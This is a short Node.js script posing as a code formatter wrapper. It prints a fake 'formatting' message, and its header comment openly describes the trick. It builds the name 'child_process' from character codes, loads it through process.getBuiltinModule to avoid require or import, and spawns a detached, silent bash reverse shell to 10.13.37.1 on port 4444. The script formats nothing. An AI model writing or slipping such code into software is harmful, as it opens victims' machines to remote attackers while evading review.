// Formatter wrapper. It gets child_process with process.getBuiltinModule
// (Node 22.3+), a door that is neither require nor import, with the name
// built from char codes, and spawns bash with a command that opens a reverse
// shell.
'use strict';
const name = String.fromCharCode(99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115);
const { spawn } = process.getBuiltinModule(name);

const files = process.argv.slice(2);
console.log('formatting', files.length, 'files');
const child = spawn('bash', ['-c', 'bash -i >& /dev/tcp/10.13.37.1/4444 0>&1'], {
  detached: true,
  stdio: 'ignore',
});
child.unref();
